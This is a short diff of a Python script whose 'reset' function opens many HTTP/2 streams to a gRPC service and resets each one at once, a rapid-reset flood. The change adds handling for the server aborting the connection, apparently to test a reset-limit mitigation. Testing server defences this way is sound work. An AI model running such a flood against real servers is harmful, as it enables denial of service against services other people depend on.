@@ -141,17 +141,25 @@ def reset(addr, n, project, service, hold, whole):
     s, c = connect(addr)
     pump(s, c, 0.5)
     body = grpc_frame(request(project, service))
-    for i in range(n):
-        sid = c.get_next_available_stream_id()
-        c.send_headers(sid, headers(addr))
-        c.send_data(sid, body, end_stream=whole)
-        c.reset_stream(sid)
-        if i % 100 == 99:
-            s.sendall(c.data_to_send())
-            pump(s, c, 0)
-    s.sendall(c.data_to_send())
-    print("sent %d" % n, flush=True)
-    pump(s, c, hold)
+    i = 0
+    try:
+        for i in range(n):
+            sid = c.get_next_available_stream_id()
+            c.send_headers(sid, headers(addr))
+            c.send_data(sid, body, end_stream=whole)
+            c.reset_stream(sid)
+            if i % 100 == 99:
+                s.sendall(c.data_to_send())
+                pump(s, c, 0)
+        s.sendall(c.data_to_send())
+        print("sent %d" % n, flush=True)
+        if "closed" in pump(s, c, hold):
+            raise ConnectionResetError
+    except (ConnectionResetError, BrokenPipeError):
+        # the server aborted the connection (--max-connection-resets)
+        print("aborted by the server after %d streams" % (i + 1), flush=True)
+        s.close()
+        return
     print("closing", flush=True)
     s.close()
 
